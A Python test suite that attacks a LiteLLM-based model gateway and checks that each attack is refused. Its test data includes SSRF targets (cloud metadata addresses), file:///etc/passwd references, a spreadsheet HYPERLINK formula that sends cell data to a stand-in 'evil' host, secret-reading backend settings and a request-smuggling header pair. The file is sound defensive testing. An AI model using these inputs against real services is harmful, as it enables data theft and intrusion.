"""The gateway is the trust boundary: each attack on it, run against a real gateway
process (LiteLLM with our gate and plugin) on SQLite and on PostgreSQL.

Backends are LiteLLM's mock responses and a slow streaming HTTP backend of our own
(tests/slowbackend.py), so no model is needed. A key of profile "small" may use only
``mock-small``; ``premium`` is in the catalog for other profiles."""

from __future__ import annotations

import concurrent.futures
import datetime as dt
import json
import os
import re
import secrets
import time
from pathlib import Path

import pytest
import requests
from gatewayproc import MOCK_PREMIUM, MOCK_SMALL, issue_key, start_gateway
from slowbackend import TOKENS
from sqlalchemy import insert, select
from waiting import until

from hub_service import catalog, keys, windows
from hub_service.db import (
    ApiKey,
    CatalogModel,
    PolicyOverride,
    Refusal,
    Usage,
    session_scope,
    utcnow,
)
from hub_service.gateway import routes
from hub_service.gateway.gate import pseudonym
from hub_service.gateway.usage import USAGE_DEFAULTS

MAX_BODY = 256 * 1024
BUDGET_TIMEZONE = "Europe/Berlin"  # budget days start at midnight in Berlin
PRICE = 5e-05  # per token, in and out, of the "priced" model
MODELS = [
    MOCK_SMALL,
    MOCK_PREMIUM,
    {
        "name": "priced",
        "provider_model": "openai/priced",
        "extra_params": {"mock_response": "priced answer"},
        "input_cost_per_token": PRICE,
        "output_cost_per_token": PRICE,
        "max_output_tokens": 5,
    },
]
PROFILES = [
    {"slug": "small", "display_name": "Small", "is_default": True, "models": ["mock-small"]},
    {"slug": "priced", "display_name": "Priced", "models": ["priced", "slow"]},
]
ROUTE_LIST = Path(__file__).with_name("litellm_routes_closed.txt")


@pytest.fixture(scope="module")
def sessions(module_sessions, backend):
    slow = {
        "name": "slow",
        "provider_model": "openai/slow",
        "api_base": backend.url,
        "input_cost_per_token": PRICE,
        "output_cost_per_token": PRICE,
    }
    backed = [  # the recording backend under other names and modes
        {**slow, "name": "quick", "provider_model": "openai/quick", "max_output_tokens": 50},
        {**slow, "name": "leaky", "provider_model": "openai/leaky"},
        {**slow, "name": "embedder", "provider_model": "openai/embedder", "mode": "embedding"},
    ]
    profiles = [
        *PROFILES,
        {"slug": "backed", "display_name": "Backed", "models": [m["name"] for m in backed]},
    ]
    with session_scope(module_sessions) as s:
        catalog.seed(s, [*MODELS, slow, *backed], profiles)
    return module_sessions


@pytest.fixture(scope="module")
def clock_file(tmp_path_factory) -> Path:
    """Seconds the gateway's clock is ahead (the MAAS_CLOCK_OFFSET_FILE seam)."""
    path = tmp_path_factory.mktemp("clock") / "offset"
    path.write_text("0")
    return path


@pytest.fixture(scope="module")
def gateway(sessions, module_db_url, log_dir, clock_file):
    kind = module_db_url.split(":")[0].split("+")[0]
    gw = start_gateway(
        module_db_url,
        log_dir / f"gateway-security-{kind}.log",
        env={
            "MAAS_REFRESH_INTERVAL": "0.5",
            "MAAS_REFUSAL_INTERVAL": "0.5",
            "MAAS_MAX_BODY_BYTES": str(MAX_BODY),
            "MAAS_CLOCK_OFFSET_FILE": str(clock_file),
            "MAAS_BUDGET_TIMEZONE": BUDGET_TIMEZONE,
        },
    )
    yield gw
    gw.terminate()


@pytest.fixture
def user(request) -> str:
    return f"s-{request.node.name[:40]}-{secrets.token_hex(3)}"


def issue(sessions, user: str, profile: str = "small") -> tuple[str, str]:
    row, key = issue_key(sessions, user, profile)
    return row.id, key


@pytest.fixture
def key(sessions, user) -> str:
    return issue(sessions, user)[1]


def call(gateway, key, method="POST", path="/v1/chat/completions", **kwargs):
    headers = {"Authorization": f"Bearer {key}", **kwargs.pop("headers", {})}
    return requests.request(method, gateway.url + path, headers=headers, timeout=60, **kwargs)


def chat_body(model="mock-small", **extra) -> dict:
    return {"model": model, "messages": [{"role": "user", "content": "hi"}], **extra}


def message(r) -> str:
    return r.json()["error"]["message"]


def usage_rows(sessions, user) -> list[Usage]:
    with session_scope(sessions) as s:
        return s.scalars(select(Usage).where(Usage.user == user).order_by(Usage.id)).all()


def refusal_counts(sessions, user, total, timeout=15.0) -> list[tuple]:
    """(model, status, reason, count) of ``user``'s refusal counts, once they add up to
    ``total`` requests (the gateway writes them every 0.5 s here)."""
    deadline = time.monotonic() + timeout
    while True:
        with session_scope(sessions) as s:
            rows = s.scalars(select(Refusal).where(Refusal.user == user)).all()
        if sum(r.count for r in rows) >= total or time.monotonic() > deadline:
            return sorted(((r.model, r.status, r.reason, r.count) for r in rows), key=str)
        time.sleep(0.1)


# -- 1. deny by default: every route LiteLLM registers -------------------------------


def _shape(path: str) -> str:
    return re.sub(r"\{[^}]*\}", "{}", path)


def litellm_routes() -> set[tuple[str, str]]:
    """Every (method, path) the installed LiteLLM proxy registers, at once or on first
    use; websockets as WS, mounted apps (the UI's static files) as GET."""
    os.environ.setdefault("LITELLM_LOCAL_MODEL_COST_MAP", "True")
    from fastapi.routing import iter_route_contexts
    from litellm.proxy._lazy_features import register_all_features
    from litellm.proxy.proxy_server import app
    from starlette.routing import Mount, WebSocketRoute

    register_all_features(app)  # the routes LiteLLM adds on first use too
    found = set()
    for context in iter_route_contexts(app.routes):
        route = context.original_route
        if isinstance(route, WebSocketRoute) or "WebSocket" in type(route).__name__:
            methods = {"WS"}
        elif isinstance(route, Mount):
            methods = {"GET"}
        else:
            methods = set(context.methods or ()) - {"HEAD"}
        found |= {(m, context.path) for m in methods}
    return found


def listed() -> set[tuple[str, str]]:
    return {(r.method, _shape(r.path)) for r in routes.ROUTES}


def closed() -> set[tuple[str, str]]:
    lines = ROUTE_LIST.read_text().splitlines()
    return {tuple(line.split(" ", 1)) for line in lines if line and not line.startswith("#")}


def concrete(path: str) -> str:
    path = re.sub(r"\{model[^}]*\}", "premium", path)
    return re.sub(r"\{[^}]*\}", "x1", path)


def test_every_route_litellm_registers_is_classified():
    """Upgrading LiteLLM and gaining a route fails here until the route is classified:
    listed in hub_service/gateway/routes.py (and checked) or in
    tests/hub_service/litellm_routes_closed.txt (refused by the gate)."""
    registered = {(m, _shape(p)) for m, p in litellm_routes()}
    known = listed() | {(m, _shape(p)) for m, p in closed()}
    unclassified = sorted(registered - known)
    assert not unclassified, (
        f"{len(unclassified)} LiteLLM route(s) not classified; review each and add it to "
        f"{ROUTE_LIST.name} (refused) or routes.ROUTES (allowed, with its checks): "
        + "; ".join(f"{m} {p}" for m, p in unclassified[:20])
    )
    assert not listed() & {(m, _shape(p)) for m, p in closed()}


def test_every_unlisted_route_answers_403_to_a_maas_key(gateway, key):
    refused = []
    for method, path in sorted(litellm_routes()):
        if (method, _shape(path)) in listed():
            continue
        url_path = concrete(path)
        if method == "WS":
            r = requests.get(
                gateway.url + url_path,
                headers={
                    "Authorization": f"Bearer {key}",
                    "Connection": "Upgrade",
                    "Upgrade": "websocket",
                    "Sec-WebSocket-Version": "13",
                    "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
                },
                timeout=30,
            )
        else:
            r = call(gateway, key, method, url_path, json=chat_body("premium"))
        ok = r.status_code == 403 and (
            method == "WS" or "not available on the MaaS gateway" in message(r)
        )
        if not ok:
            refused.append(f"{method} {url_path}: {r.status_code}")
    assert not refused, refused


def test_every_listed_route_checks_the_model_against_the_keys_policy(gateway, key):
    for route in routes.ROUTES:
        path = concrete(route.path)
        if route.public:
            assert requests.get(gateway.url + path, timeout=30).status_code == 200
        elif route.model_in is None:  # the model list: only the key's models
            r = call(gateway, key, route.method, path)
            assert [m["id"] for m in r.json()["data"]] == ["mock-small"], path
        else:
            hi = [{"role": "user", "content": "hi"}]
            body = {"model": "premium", "input": "hi", "prompt": "hi", "messages": hi}
            body = {k: v for k, v in body.items() if k in route.fields} or None
            r = call(gateway, key, route.method, path, json=body)
            assert r.status_code == 403, (route, r.status_code, r.text)
            assert "'premium' is not allowed for profile 'small'" in message(r)


@pytest.mark.parametrize(
    "method, path",
    [
        ("POST", "/models/premium:generateContent"),
        ("POST", "/models/premium:streamGenerateContent"),
        ("POST", "/v1beta/models/premium:generateContent"),
        ("POST", "/openai/v1/chat/completions"),
        ("GET", "/openai/v1/models"),
        ("POST", "/engines/premium/chat/completions"),
        ("POST", "/openai/deployments/premium/chat/completions"),
        ("GET", "/ui/"),
        ("GET", "/openapi.json"),
        ("GET", "/docs"),
        ("GET", "/redoc"),
        ("POST", "/key/generate"),
    ],
)
def test_the_routes_that_got_around_the_checks_are_closed(gateway, key, method, path):
    r = call(gateway, key, method, path, json=chat_body("premium"))
    assert r.status_code == 403, r.text
    assert "not available on the MaaS gateway" in message(r)
    assert "premium answer" not in r.text and "LiteLLM" not in r.text


def test_unauthenticated_callers_see_no_ui_or_api_documents(gateway):
    for path in ("/ui/", "/openapi.json", "/docs", "/", "/sso/key/generate"):
        r = requests.get(gateway.url + path, timeout=30)
        assert r.status_code == 403 and "litellm" not in r.text.lower(), path


# -- 2. no field picks another model, backend or key ---------------------------------


def test_a_model_in_the_query_string_is_refused(gateway, key, sessions, user):
    r = call(gateway, key, path="/v1/chat/completions?model=premium", json=chat_body())
    assert r.status_code == 400
    assert message(r).startswith("The query parameter 'model' is not accepted")
    assert usage_rows(sessions, user) == []


@pytest.mark.parametrize(
    "field, value",
    [
        ("fallbacks", ["premium"]),
        ("context_window_fallbacks", [{"mock-small": ["premium"]}]),
        ("content_policy_fallbacks", [{"mock-small": ["premium"]}]),
        ("api_base", "http://169.254.169.254/v1"),
        ("base_url", "http://169.254.169.254/v1"),
        ("api_key", "sk-someone-elses"),
        ("api_version", "2024-01-01"),
        ("user_config", {"model_list": [{"model_name": "x", "litellm_params": {}}]}),
        ("model_list", [{"model_name": "x", "litellm_params": {"model": "openai/premium"}}]),
        ("custom_llm_provider", "openai"),
        ("deployment_id", "premium"),
        ("metadata", {"tags": ["premium"]}),
        ("litellm_metadata", {"model_group": "premium"}),
        ("tags", ["premium"]),
        ("mock_response", "free answer"),
        ("extra_headers", {"Authorization": "Bearer x"}),
        ("extra_body", {"model": "premium"}),
        ("num_retries", 50),
        ("timeout", 3600),
        ("caching", True),
        ("guardrails", []),
        ("web_search_options", {}),
        ("store", True),
        ("prompt_id", "p"),
    ],
)
def test_a_field_that_could_pick_another_model_or_backend_is_refused(
    gateway, key, sessions, user, field, value
):
    r = call(gateway, key, json=chat_body(**{field: value}))
    assert r.status_code == 400, r.text
    assert message(r).startswith(f"The field '{field}' is not accepted by the MaaS gateway")
    assert usage_rows(sessions, user) == []


def test_every_litellm_parameter_is_refused_and_none_is_accepted(gateway, key):
    from litellm.types.utils import all_litellm_params

    assert not set(all_litellm_params) & routes.CHAT_FIELDS
    accepted = []
    for field in sorted(all_litellm_params):
        r = call(gateway, key, json=chat_body(**{field: "x"}))
        if r.status_code != 400 or f"'{field}'" not in message(r):
            accepted.append(field)
    assert not accepted, accepted


@pytest.mark.parametrize("tool_type", ["web_search", "mcp", "code_interpreter", "file_search"])
def test_tools_that_act_on_the_gateways_behalf_are_refused(gateway, key, tool_type):
    tools = [{"type": tool_type, "server_url": "http://169.254.169.254"}]
    r = call(gateway, key, json=chat_body(tools=tools))
    assert r.status_code == 400 and f"Tools of type '{tool_type}'" in message(r)


def test_function_tools_pass(gateway, key):
    tools = [{"type": "function", "function": {"name": "f", "parameters": {"type": "object"}}}]
    assert call(gateway, key, json=chat_body(tools=tools)).status_code == 200


@pytest.mark.parametrize("header", ["x-litellm-tags", "x-litellm-api-key", "litellm-trace-id"])
def test_litellm_control_headers_are_refused(gateway, key, header):
    r = call(gateway, key, json=chat_body(), headers={header: "premium"})
    assert r.status_code == 400 and f"The header '{header}'" in message(r)


def test_a_body_that_is_not_json_is_refused(gateway, key):
    r = call(gateway, key, data="model=premium")  # curl -d's form encoding
    assert r.status_code == 415 and "Content-Type: application/json" in message(r)
    r = call(gateway, key, data="{", headers={"Content-Type": "application/json"})
    assert r.status_code == 400 and message(r) == "The request body is not valid JSON."


# -- 3. accounting cannot be poisoned ------------------------------------------------


@pytest.mark.parametrize(
    "model",
    [
        '=HYPERLINK("https://evil/?"&A2,"x")',
        "mock-small\x00",
        "m" * 10_000,
    ],
)
def test_a_model_name_outside_the_catalog_never_reaches_the_accounts(
    gateway, key, sessions, user, model
):
    r = call(gateway, key, json=chat_body(model))
    assert r.status_code == 404 and "does not exist" in message(r)
    assert len(message(r)) < 400  # the name is cut short in the sentence
    assert refusal_counts(sessions, user, 1) == [("", 404, "model-unknown", 1)]
    assert usage_rows(sessions, user) == []


def test_invalid_utf8_in_the_body_is_refused(gateway, key, sessions, user):
    raw = b'{"model": "mock-small\xff", "messages": []}'
    r = call(gateway, key, data=raw, headers={"Content-Type": "application/json"})
    assert r.status_code == 400
    raw = b'{"model": "\\udcff", "messages": []}'  # a lone surrogate, JSON-escaped
    r = call(gateway, key, data=raw, headers={"Content-Type": "application/json"})
    assert r.status_code in (400, 404)
    assert usage_rows(sessions, user) == []


# -- 4. refusals are cheap -----------------------------------------------------------


def test_a_loop_with_a_revoked_key_adds_a_count_not_rows(gateway, sessions, user):
    key_id, key = issue(sessions, user)
    with session_scope(sessions) as s:
        keys.revoke_where(s, (ApiKey.id == key_id,), reason="revoked by user", now=utcnow())
    gateway.refreshed()
    with requests.Session() as http:
        for _ in range(300):
            r = http.post(
                f"{gateway.url}/v1/chat/completions",
                headers={"Authorization": f"Bearer {key}"},
                json=chat_body(),
                timeout=30,
            )
            assert r.status_code == 401
    counts = refusal_counts(sessions, user, 300)
    assert sum(c[3] for c in counts) == 300 and len(counts) <= 2  # a row a minute
    assert {c[:3] for c in counts} == {("", 401, "revoked-key")}
    assert usage_rows(sessions, user) == []
    assert (
        gateway.metrics()['maas_gateway_refusals_total{reason="revoked-key",status="401"}'] >= 300
    )


# -- 5. budgets hold under concurrency -----------------------------------------------


def test_fifty_parallel_requests_pass_the_budget_by_one_worst_case_at_most(gateway, sessions, user):
    left, budget = 0.01, 0.05
    with session_scope(sessions) as s:
        s.add(PolicyOverride(kind="user", name=user, budgets=[{"window": "day", "usd": budget}]))
        s.execute(
            insert(Usage),
            [
                {
                    **USAGE_DEFAULTS,
                    "ts": utcnow(),
                    "user": user,
                    "model": "priced",
                    "status_code": 200,
                    "cost_usd": budget - left,
                }
            ],
        )
    _, key = issue(sessions, user, "priced")
    gateway.refreshed()
    body = chat_body("priced", max_tokens=5)
    # every byte a prompt token at most, plus max_tokens out
    worst = len(json.dumps(body).encode()) * PRICE + 5 * PRICE

    def one(_):
        return call(gateway, key, json=body)

    with concurrent.futures.ThreadPoolExecutor(50) as pool:
        answers = list(pool.map(one, range(50)))
    codes = [r.status_code for r in answers]
    assert set(codes) == {200, 429} and codes.count(200) >= 1, codes
    assert all("budget" in message(r).lower() for r in answers if r.status_code == 429)
    deadline = time.monotonic() + 15
    while len(rows := usage_rows(sessions, user)) < codes.count(200) + 1:
        assert time.monotonic() < deadline
        time.sleep(0.1)
    spent = sum(u.cost_usd for u in rows)
    assert spent <= budget + worst, (spent, budget, worst)
    # the test has teeth: admitting all fifty would have spent far more
    per_request = max(u.cost_usd for u in rows if u.model == "priced" and u.key_id)
    assert budget - left + 50 * per_request > budget + worst


def test_parallel_requests_at_midnight_keep_each_days_budget(gateway, sessions, user, clock_file):
    """Fifty requests in parallel seconds before midnight in Berlin, fifty just
    after: each day's spend passes its budget by one worst case at most, however the
    requests fall around the edge; the new day admits requests again; refusals name the
    day and its reset at Berlin's midnight. The gateway's clock is moved, not waited for."""
    zone = windows.zone(BUDGET_TIMEZONE)
    budget = 0.004
    with session_scope(sessions) as s:
        s.add(PolicyOverride(kind="user", name=user, budgets=[{"window": "day", "usd": budget}]))
    # valid up to the gateway's midnight, however far ahead its clock is moved
    _, key = issue_key(sessions, user, "priced", lifetime=dt.timedelta(days=2))
    real = utcnow()
    _, midnight = windows.bounds("day", real, zone)
    clock_file.write_text(str((midnight - real).total_seconds() - 15))
    try:
        gateway.refreshed()
        body = chat_body("priced", max_tokens=5)
        worst = len(json.dumps(body).encode()) * PRICE + 5 * PRICE

        def burst():
            with concurrent.futures.ThreadPoolExecutor(50) as pool:
                return list(pool.map(lambda _: call(gateway, key, json=body), range(50)))

        before = burst()
        refusals = [message(r) for r in before if r.status_code == 429]
        assert refusals, "the day before midnight was never spent"
        reset = windows.iso(midnight)
        assert all("daily budget" in m and reset in m for m in refusals), refusals[:1]

        def past_midnight() -> bool:
            clock = float(clock_file.read_text())
            return utcnow() + dt.timedelta(seconds=clock) >= midnight + dt.timedelta(seconds=1)

        until(past_midnight, 30, "the gateway's clock to pass midnight", every=0.05)
        gateway.refreshed()
        after = burst()
        assert any(r.status_code == 200 for r in after), "the new day admitted nothing"
        admitted = [r for r in (*before, *after) if r.status_code == 200]

        def spend_by_day():
            rows = usage_rows(sessions, user)
            if len(rows) < len(admitted):
                return None
            days: dict = {}
            for row in rows:
                day = windows.bounds("day", row.ts, zone)[0]
                days[day] = days.get(day, 0.0) + row.cost_usd
            return days

        days = until(spend_by_day, 15, "every admitted request's usage row")
        assert set(days) <= {midnight - dt.timedelta(days=1), midnight}
        for day, spent in days.items():
            assert spent <= budget + worst, (day, spent, budget, worst)
        # the test has teeth: all fifty of a burst would have spent far more
        assert 50 * min(r.cost_usd for r in usage_rows(sessions, user)) > budget + worst
    finally:
        clock_file.write_text("0")


def test_an_abandoned_stream_is_billed_for_what_was_generated(gateway, sessions, user, backend):
    _, key = issue(sessions, user, "priced")
    r = call(gateway, key, json=chat_body("slow", stream=True), stream=True)
    assert r.status_code == 200
    lines = r.iter_lines()
    received = 0
    while received < 5:  # read a few tokens, then walk away
        if next(lines).startswith(b"data: {"):
            received += 1
    r.close()
    deadline = time.monotonic() + 30
    while not (rows := usage_rows(sessions, user)):
        assert time.monotonic() < deadline, "the abandoned stream was never billed"
        time.sleep(0.1)
    [row] = rows
    assert row.status_code == 200 and row.model == "slow"
    assert row.completion_tokens >= received and row.cost_usd > 0
    stream = backend.streams[-1]
    deadline = time.monotonic() + 30
    while not stream["done"]:
        assert time.monotonic() < deadline
        time.sleep(0.1)
    assert stream["sent"] < TOKENS  # and the gateway stopped the backend


# -- 6. admins cannot aim the gateway at its own secrets ------------------------------


@pytest.mark.parametrize(
    "backend_fields",
    [
        {"api_key_env": "MAAS_DB_URL"},
        {"api_key_env": "LITELLM_MASTER_KEY"},
        {"api_base": "http://169.254.169.254/v1"},
        {"api_base": "http://metadata.google.internal/v1"},
        {"extra_params": {"api_key": "os.environ/MAAS_DB_URL"}},
        {"extra_params": {"mock_response": "os.environ/MAAS_DB_URL"}},
        {"extra_params": {"custom_llm_provider": "bedrock"}},
    ],
    ids=lambda fields: next(iter(fields)) + "=" + str(next(iter(fields.values())))[:30],
)
def test_a_catalog_row_aimed_at_the_gateways_secrets_is_not_served(
    gateway, sessions, user, backend, backend_fields
):
    """A row written behind the admin API's back (which refuses these): the gateway
    refuses to serve it, and nothing reaches the backend."""
    name = f"aimed-{secrets.token_hex(3)}"
    with session_scope(sessions) as s:
        s.add(
            CatalogModel(
                name=name,
                provider_model=f"openai/{name}",
                **{"api_base": backend.url, **backend_fields},
            )
        )
        s.add(PolicyOverride(kind="user", name=user, extra_models=[name]))
    _, key = issue(sessions, user)
    gateway.refreshed()
    calls = len(backend.authorizations)
    r = call(gateway, key, json=chat_body(name))
    assert r.status_code == 503, r.text
    assert "the gateway refuses its backend settings" in message(r)
    assert len(backend.authorizations) == calls
    assert "postgresql" not in r.text and "sqlite" not in r.text
    assert f"The model '{name}' is not served" in gateway.log_path.read_text()


# -- 9. bounded --------------------------------------------------------------------


def test_a_body_over_the_limit_gets_413_with_or_without_a_length(gateway, key):
    body = chat_body(messages=[{"role": "user", "content": "x" * MAX_BODY}])
    r = call(gateway, key, json=body)
    assert r.status_code == 413 and f"({MAX_BODY:,} bytes)" in message(r)

    def chunks():  # no Content-Length: the gate counts what arrives
        data = json.dumps(body).encode()
        for i in range(0, len(data), 8192):
            yield data[i : i + 8192]

    r = call(gateway, key, data=chunks(), headers={"Content-Type": "application/json"})
    assert r.status_code == 413


def test_a_gateway_whose_database_is_away_answers_503_then_recovers(tmp_path, log_dir):
    """The gateway starts while its database is not there (a SQLite file in a folder
    that does not exist yet), says so, and serves once the database appears."""
    from hub_service import db

    folder = tmp_path / "later"
    url = f"sqlite:///{folder / 'maas.sqlite'}"
    gw = start_gateway(
        url, log_dir / "gateway-no-database.log", env={"MAAS_REFRESH_INTERVAL": "0.5"}
    )
    try:
        r = call(gw, "sk-maas-" + secrets.token_urlsafe(32), json=chat_body())
        assert r.status_code == 503
        assert message(r).startswith("The MaaS gateway cannot reach its database")
        folder.mkdir()
        engine = db.make_engine(url)
        db.upgrade(engine)
        sessions = db.make_session_factory(engine)
        with session_scope(sessions) as s:
            catalog.seed(s, [MOCK_SMALL], PROFILES)
        _, key = issue(sessions, "newcomer")
        deadline = time.monotonic() + 60
        while (r := call(gw, key, json=chat_body())).status_code != 200:
            assert time.monotonic() < deadline, r.text
            time.sleep(0.2)
        assert r.json()["choices"][0]["message"]["content"] == "small answer"
        engine.dispose()
    finally:
        gw.terminate()


# -- from the security review: the shapes of what reaches the backend -------------------


def test_a_get_route_takes_no_body_of_any_size(gateway, key):
    """LiteLLM would read (and keep in memory) a GET body of any size."""
    r = call(gateway, key, "GET", "/v1/models", data=b"[1," * 1000)
    assert r.status_code == 400 and message(r) == "GET /v1/models takes no request body."

    def endless():
        for _ in range(100):
            yield b"[1," * 1000

    r = call(gateway, key, "GET", "/v1/models/mock-small", data=endless())
    assert r.status_code == 400 and "takes no request body" in message(r)


@pytest.mark.parametrize(
    "extra, said",
    [
        ({"messages": [{"role": "user", "content": "x"}] * 2049}, "'messages' may hold at most"),
        ({"tools": [{"type": "function", "function": {"name": "f"}}] * 129}, "'tools' may"),
        ({"stop": ["a", "b", "c", "d", "e"]}, "'stop' may hold at most 4"),
        ({"n": 129}, "'n' may be at most 128"),
        ({"max_tokens": 5, "max_completion_tokens": 6}, "differ: send one of them"),
    ],
    ids=["messages", "tools", "stop", "n", "two-caps"],
)
def test_requests_beyond_openais_own_sizes_are_refused(gateway, key, extra, said):
    r = call(gateway, key, json={**chat_body(), **extra})
    assert r.status_code == 400 and said in message(r), r.text


def backed_key(sessions, user) -> str:
    return issue(sessions, user, "backed")[1]


def test_the_output_cap_reserved_is_the_one_the_backend_receives(gateway, sessions, user, backend):
    key = backed_key(sessions, user)
    for asked, expected in ((None, 50), (10, 10), (100_000, 50)):
        body = chat_body("quick") if asked is None else chat_body("quick", max_tokens=asked)
        assert call(gateway, key, json=body).status_code == 200
        sent = backend.bodies[-1]
        assert sent["max_tokens"] == expected, sent
        assert "max_completion_tokens" not in sent
    assert call(gateway, key, json=chat_body("quick", max_completion_tokens=7)).status_code == 200
    assert (
        backend.bodies[-1].get("max_completion_tokens", backend.bodies[-1].get("max_tokens")) == 7
    )


def test_no_request_can_claim_another_user_to_the_backend(gateway, sessions, user, backend):
    """The OpenAI ``user`` field is the gateway's pseudonym of the hub user, if LiteLLM
    passes it on at all."""
    key = backed_key(sessions, user)
    assert call(gateway, key, json=chat_body("quick", user="someone-else")).status_code == 200
    sent = backend.bodies[-1]
    assert "someone-else" not in json.dumps(sent)
    assert sent.get("user") in (None, pseudonym(user))


@pytest.mark.parametrize(
    "part",
    [
        {"type": "file", "file": {"file_id": "file-abc123"}},
        {"type": "file", "file": {"file_data": "gs://acme-private/board.pdf"}},
        {"type": "image_url", "image_url": {"url": "s3://acme-private/x.png"}},
        {"type": "image_url", "image_url": {"url": "file:///etc/passwd"}},
        {"type": "input_file", "file_id": "file-abc123"},
        {"type": "video_url", "video_url": {"url": "https://example.org/v.mp4"}},
    ],
    ids=["file_id", "gs", "s3-image", "file-url", "input_file", "unknown-type"],
)
def test_content_that_names_stored_files_is_refused(gateway, key, part):
    body = chat_body(messages=[{"role": "user", "content": [{"type": "text", "text": "hi"}, part]}])
    r = call(gateway, key, json=body)
    assert r.status_code == 400 and "is not accepted by the MaaS gateway" in message(r)


def test_inline_content_passes(gateway, key):
    pixel = "data:image/png;base64,iVBORw0KGgo="
    parts = [{"type": "text", "text": "hi"}, {"type": "image_url", "image_url": {"url": pixel}}]
    r = call(gateway, key, json=chat_body(messages=[{"role": "user", "content": parts}]))
    assert r.status_code == 200


def test_a_responses_item_reference_is_refused(gateway, key):
    body = {"model": "mock-small", "input": [{"type": "item_reference", "id": "msg_1"}]}
    r = call(gateway, key, path="/v1/responses", json=body)
    assert r.status_code == 400 and "'item_reference'" in message(r)


def codex_body(**fields) -> dict:
    """A Responses request as Codex 0.171 sends it (trimmed): its own fields, a
    developer message, and a namespace of function tools."""
    function = {
        "type": "function",
        "name": "close_agent",
        "description": "Close an agent.",
        "strict": False,
        "parameters": {"type": "object", "properties": {}},
    }
    return {
        "model": "quick",
        "input": [
            {
                "type": "message",
                "role": "developer",
                "content": [{"type": "input_text", "text": "Be brief."}],
            },
            {
                "type": "message",
                "role": "user",
                "content": [{"type": "input_text", "text": "Say hello"}],
            },
        ],
        "tools": [
            {**function, "name": "exec_command"},
            {
                "type": "namespace",
                "name": "multi_agent_v1",
                "description": "Sub-agents.",
                "tools": [function],
            },
        ],
        "tool_choice": "auto",
        "parallel_tool_calls": True,
        "reasoning": {"summary": "auto"},
        "store": False,
        "include": ["reasoning.encrypted_content"],
        "prompt_cache_key": "019a-session",
        "client_metadata": {"x-codex-installation-id": "ad37c49d-install"},
        **fields,
    }


def test_a_codex_request_is_answered_as_chat_and_accounted(gateway, sessions, user, backend):
    """Codex's Responses request reaches an OpenAI-compatible backend as a chat
    completion (which every such server has), its namespace's tools flattened, without
    Codex's installation id, and is a usage row of the key's user."""
    key = backed_key(sessions, user)
    r = call(gateway, key, path="/v1/responses", json=codex_body())
    assert r.status_code == 200, r.text
    assert r.json()["output"][0]["content"][0]["text"] == "quick answer"
    sent = backend.bodies[-1]
    assert [m["role"] for m in sent["messages"]][-1] == "user"
    assert {t["function"]["name"] for t in sent["tools"]} == {
        "exec_command",
        "multi_agent_v1__close_agent",
    }
    assert "install" not in json.dumps(sent)
    until(lambda: usage_rows(sessions, user), 15, "the request's usage row")
    (row,) = usage_rows(sessions, user)
    assert (row.model, row.status_code, row.prompt_tokens, row.completion_tokens) == (
        "quick",
        200,
        5,
        2,
    )


@pytest.mark.parametrize(
    ("fields", "said"),
    [
        ({"store": True}, "'store' must be false"),
        ({"include": ["file_search_call.results"]}, "'include' may hold only"),
        ({"prompt_cache_key": {"a": 1}}, "'prompt_cache_key' must be a string"),
        (
            {"tools": [{"type": "web_search", "external_web_access": False}]},
            "Tools of type 'web_search' are not available",
        ),
        (
            {"tools": [{"type": "namespace", "name": "n", "tools": [{"type": "web_search"}]}]},
            "Tools of type 'web_search' are not available",
        ),
    ],
    ids=["store", "include", "cache-key", "web-search", "web-search-in-namespace"],
)
def test_what_codex_may_not_ask_a_provider_is_refused(gateway, key, fields, said):
    r = call(gateway, key, path="/v1/responses", json=codex_body(**fields))
    assert r.status_code == 400 and said in message(r), r.text


def test_each_route_serves_only_its_models_modes(gateway, sessions, user):
    key = backed_key(sessions, user)
    r = call(gateway, key, json=chat_body("embedder"))
    assert r.status_code == 400
    assert message(r) == (
        "The model 'embedder' is a embedding model: POST /v1/chat/completions does not serve it."
    )
    r = call(gateway, key, path="/v1/embeddings", json={"model": "quick", "input": "hi"})
    assert r.status_code == 400 and "is a chat model" in message(r)


def test_a_backends_error_is_stored_without_its_secrets(gateway, sessions, user):
    key = backed_key(sessions, user)
    r = call(gateway, key, json=chat_body("leaky"))
    assert r.status_code >= 500
    deadline = time.monotonic() + 15
    while not (rows := usage_rows(sessions, user)):
        assert time.monotonic() < deadline
        time.sleep(0.1)
    error = rows[0].error
    assert "1234567890abcdef" not in error and "hunter2" not in error, error
    log = gateway.log_path.read_text()
    assert "1234567890abcdef" not in log and "hunter2" not in log


def test_a_request_with_both_length_and_chunking_is_refused(gateway, key):
    import socket

    host, port = gateway.url.split("//")[1].split(":")
    body = json.dumps(chat_body()).encode()
    head = (
        "POST /v1/chat/completions HTTP/1.1\r\n"
        f"Host: {host}\r\nAuthorization: Bearer {key}\r\n"
        "Content-Type: application/json\r\n"
        f"Content-Length: {len(body) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n"
    ).encode()
    chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
    with socket.create_connection((host, int(port)), timeout=30) as s:
        s.sendall(head + chunked)
        answer = s.recv(65536).decode(errors="replace")
    assert answer.split("\r\n")[0].split()[1] == "400", answer[:300]
